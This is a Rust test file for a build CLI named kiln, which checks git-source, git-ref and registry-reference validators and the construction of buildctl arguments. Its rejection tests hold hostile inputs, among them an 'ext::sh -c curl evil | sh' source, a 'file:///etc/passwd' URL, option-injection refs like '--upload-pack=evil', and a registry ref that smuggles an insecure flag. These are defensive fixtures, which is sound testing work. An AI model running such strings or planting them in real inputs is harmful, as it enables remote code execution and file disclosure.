use kiln::cli::{
    after_git_step, build_buildctl_args, git_step_args, parse_env, validate_build_args, validate_git_ref, validate_git_source,
    validate_registry_ref, GitNext, GitStep,
};

#[test]
fn rejects_dangerous_git_sources() {
    assert!(validate_git_source("ext::sh -c 'curl evil | sh'").is_err());
    assert!(validate_git_source("file:///etc/passwd").is_err());
    assert!(validate_git_source("-oProxyCommand=evil").is_err());
    assert!(validate_git_source("http://evil.internal/x").is_err());
    assert!(validate_git_source("git://evil/x").is_err());
}

#[test]
fn accepts_https_ssh_and_scp_git_sources() {
    assert!(validate_git_source("https://github.com/o/r.git").is_ok());
    assert!(validate_git_source("ssh://git@github.com/o/r.git").is_ok());
    assert!(validate_git_source("git@github.com:o/r.git").is_ok());
}

#[test]
fn rejects_option_like_and_whitespace_git_refs() {
    assert!(validate_git_ref("--upload-pack=evil").is_err());
    assert!(validate_git_ref("a b").is_err());
    assert!(validate_git_ref("").is_err());
}

#[test]
fn accepts_real_git_refs() {
    assert!(validate_git_ref("main").is_ok());
    assert!(validate_git_ref("v1.2.3").is_ok());
    assert!(validate_git_ref("release/1.0").is_ok());
    assert!(validate_git_ref("9c1f359").is_ok());
}

#[test]
fn rejects_registry_ref_with_comma_or_space() {
    assert!(validate_registry_ref("app:tag,registry.insecure=true").is_err());
    assert!(validate_registry_ref("app:tag foo").is_err());
    assert!(validate_registry_ref("").is_err());
}

#[test]
fn accepts_normal_registry_refs() {
    assert!(validate_registry_ref("ghcr.io/o/app:1.0").is_ok());
    assert!(validate_registry_ref("localhost:5000/app@sha256:abcdef").is_ok());
}

#[test]
fn parse_env_splits_on_first_equals_and_skips_invalid() {
    let map = parse_env(&vec![
        "A=1".to_string(),
        "B=x=y".to_string(),
        "noequals".to_string(),
        "=novalue".to_string(),
    ]);
    assert_eq!(map.get("A").map(String::as_str), Some("1"));
    assert_eq!(map.get("B").map(String::as_str), Some("x=y"));
    assert_eq!(map.len(), 2);
}

#[test]
fn omits_cache_flags_when_unset() {
    let args = build_buildctl_args(
        "tcp://127.0.0.1:1234",
        "/workspace",
        "registry.example/app:abc123",
        None,
        None,
        false,
        &vec![],
    );
    assert!(args.iter().all(|a| a != "--import-cache"));
    assert!(args.iter().all(|a| a != "--export-cache"));
    assert!(args.iter().any(|a| a == "type=image,name=registry.example/app:abc123,push=true"));
    assert!(args.iter().any(|a| a == "image-resolve-mode=pull"));
}

#[test]
fn wires_cache_from_and_cache_to_with_insecure_suffix() {
    let args = build_buildctl_args(
        "tcp://127.0.0.1:1234",
        "/workspace",
        "localhost:5000/app:abc123",
        Some("localhost:5000/app:buildcache"),
        Some("localhost:5000/app:buildcache"),
        true,
        &vec![],
    );

    let import_idx = args.iter().position(|a| a == "--import-cache").expect("--import-cache present");
    assert_eq!(
        args[import_idx + 1],
        "type=registry,ref=localhost:5000/app:buildcache,registry.insecure=true",
    );

    let export_idx = args.iter().position(|a| a == "--export-cache").expect("--export-cache present");
    assert_eq!(
        args[export_idx + 1],
        "type=registry,ref=localhost:5000/app:buildcache,mode=max,push=true,registry.insecure=true",
    );

    let output_idx = args.iter().position(|a| a == "--output").expect("--output present");
    assert_eq!(
        args[output_idx + 1],
        "type=image,name=localhost:5000/app:abc123,push=true,registry.insecure=true",
    );
}

#[test]
fn cache_flags_without_insecure_have_no_suffix() {
    let args = build_buildctl_args(
        "tcp://127.0.0.1:1234",
        "/workspace",
        "ghcr.io/owner/app:abc",
        Some("ghcr.io/owner/app:buildcache"),
        Some("ghcr.io/owner/app:buildcache"),
        false,
        &vec![],
    );

    let import_idx = args.iter().position(|a| a == "--import-cache").unwrap();
    assert_eq!(args[import_idx + 1], "type=registry,ref=ghcr.io/owner/app:buildcache",);

    let output_idx = args.iter().position(|a| a == "--output").unwrap();
    assert_eq!(args[output_idx + 1], "type=image,name=ghcr.io/owner/app:abc,push=true",);
}

#[test]
fn forwards_secrets_to_buildctl() {
    let args = build_buildctl_args(
        "tcp://127.0.0.1:1234",
        "/workspace",
        "ghcr.io/owner/app:abc",
        None,
        None,
        false,
        &vec!["NPM_TOKEN".to_string(), "GH_TOKEN".to_string()],
    );
    let secret_idx = args.iter().position(|a| a == "--secret").expect("--secret present");
    assert_eq!(args[secret_idx + 1], "id=NPM_TOKEN,env=NPM_TOKEN");
    assert!(args.iter().any(|a| a == "id=GH_TOKEN,env=GH_TOKEN"));
}

#[test]
fn buildctl_args_in_full() {
    let args = build_buildctl_args(
        "tcp://buildkit:1234",
        "/src",
        "r/app:1",
        Some("r/app:cache"),
        None,
        false,
        &vec!["T".to_string()],
    );
    assert_eq!(
        args,
        vec![
            "--addr",
            "tcp://buildkit:1234",
            "build",
            "--frontend",
            "dockerfile.v0",
            "--local",
            "context=/src",
            "--local",
            "dockerfile=/src",
            "--opt",
            "filename=Dockerfile.kiln",
            "--opt",
            "image-resolve-mode=pull",
            "--import-cache",
            "type=registry,ref=r/app:cache",
            "--secret",
            "id=T,env=T",
            "--output",
            "type=image,name=r/app:1,push=true",
        ]
    );
}

#[test]
fn parse_env_later_flag_wins() {
    let map = parse_env(&vec!["K=1".to_string(), "K=2".to_string(), "E=".to_string()]);
    assert_eq!(map.get("K").map(String::as_str), Some("2"));
    assert_eq!(map.get("E").map(String::as_str), Some(""));
    assert_eq!(map.len(), 2);
}

#[test]
fn registry_ref_rejects_control_characters() {
    assert!(validate_registry_ref("app\u{7}tag").is_err());
    assert!(validate_registry_ref("app\ttag").is_err());
    assert_eq!(validate_registry_ref("x,y").unwrap_err(), "invalid registry reference");
    assert_eq!(validate_git_ref("-x").unwrap_err(), "invalid --ref value");
}

#[test]
fn git_fetch_steps_and_arguments() {
    let url = "https://example.com/a.git";
    assert_eq!(
        git_step_args(GitStep::ShallowClone, url, Some("v1"), "/tmp/x"),
        vec!["clone", "--depth", "1", "--branch", "v1", "--", url, "/tmp/x"]
    );
    assert_eq!(git_step_args(GitStep::ShallowClone, url, None, "/tmp/x"), vec!["clone", "--depth", "1", "--", url, "/tmp/x"]);
    assert_eq!(git_step_args(GitStep::FullClone, url, Some("abc123"), "/tmp/x"), vec!["clone", "--", url, "/tmp/x"]);
    assert_eq!(git_step_args(GitStep::Checkout, url, Some("abc123"), "/tmp/x"), vec!["checkout", "abc123"]);
    assert!(matches!(after_git_step(GitStep::ShallowClone, true, true), GitNext::Done));
    assert!(matches!(after_git_step(GitStep::ShallowClone, false, true), GitNext::Run(GitStep::FullClone)));
    assert!(matches!(after_git_step(GitStep::ShallowClone, false, false), GitNext::Failed(m) if m == "git clone failed"));
    assert!(matches!(after_git_step(GitStep::FullClone, true, true), GitNext::Run(GitStep::Checkout)));
    assert!(matches!(after_git_step(GitStep::FullClone, false, true), GitNext::Failed(m) if m == "git clone failed"));
    assert!(matches!(after_git_step(GitStep::Checkout, true, true), GitNext::Done));
    assert!(matches!(after_git_step(GitStep::Checkout, false, true), GitNext::Failed(m) if m == "git checkout failed"));
}

#[test]
fn build_arguments_report_the_first_refused_one() {
    assert!(validate_build_args("reg.io/app:1", Some("reg.io/cache"), None, Some("https://x/y.git"), Some("main")).is_ok());
    assert_eq!(validate_build_args("bad ref", Some("also bad"), None, None, None).unwrap_err(), "invalid registry reference");
    assert_eq!(validate_build_args("reg.io/app", None, Some("bad,ref"), None, None).unwrap_err(), "invalid registry reference");
    assert_eq!(
        validate_build_args("reg.io/app", None, None, Some("file:///etc"), Some("bad ref")).unwrap_err(),
        "unsupported --source URL (use https://, ssh://, or git@host:path)"
    );
    assert_eq!(validate_build_args("reg.io/app", None, None, None, Some("a;b")).unwrap_err(), "invalid --ref value");
}
